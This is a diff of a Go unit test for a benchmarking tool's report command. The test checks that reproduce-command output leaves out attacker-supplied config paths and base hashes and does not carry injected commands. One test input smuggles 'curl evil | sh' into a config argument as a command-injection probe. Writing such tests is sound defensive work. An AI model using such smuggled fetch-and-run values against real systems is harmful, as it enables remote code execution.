@@ -69,11 +69,11 @@ func TestReportReproduceFlags(t *testing.T) {
 		want      string
 		forbidden []string
 	}{
-		{nil, "<pre>sudo perfgate gate --config attacker/perfgate.yml --base badbadbadbad --head . --out results/ --seed 7\n", nil},
+		{nil, "\nsudo env \"PATH=$PATH\" perfgate gate --config attacker/perfgate.yml --base badbadbadbad --head . --out results/ --seed 7\n", nil},
 		{[]string{"--reproduce-config", "ci/perfgate.yml", "--reproduce-head", head},
-			"<pre>git checkout " + head + "\nsudo perfgate gate --config ci/perfgate.yml --base &lt;base&gt; --head . --out results/ --seed 7\n", []string{"attacker", "badbad"}},
+			"\ngit checkout " + head + "\nperfgate gate --config ci/perfgate.yml --base &lt;base&gt; --head . --out results/ --seed 7   # unconfined", []string{"attacker", "badbad"}},
 		{[]string{"--reproduce-head", head}, "--config &lt;config&gt; --base &lt;base&gt;", []string{"attacker", "badbad"}},
-		{[]string{"--reproduce-config", "x.yml; curl evil | sh"}, "<pre>sudo perfgate gate --config &lt;config&gt; --base &lt;base&gt;", []string{"curl", "attacker"}},
+		{[]string{"--reproduce-config", "x.yml; curl evil | sh"}, "\nperfgate gate --config &lt;config&gt; --base &lt;base&gt;", []string{"curl", "attacker"}},
 	} {
 		var stdout, stderr bytes.Buffer
 		if code := run(context.Background(), append([]string{"report", "--in", in}, tc.args...), &stdout, &stderr); code != 0 {
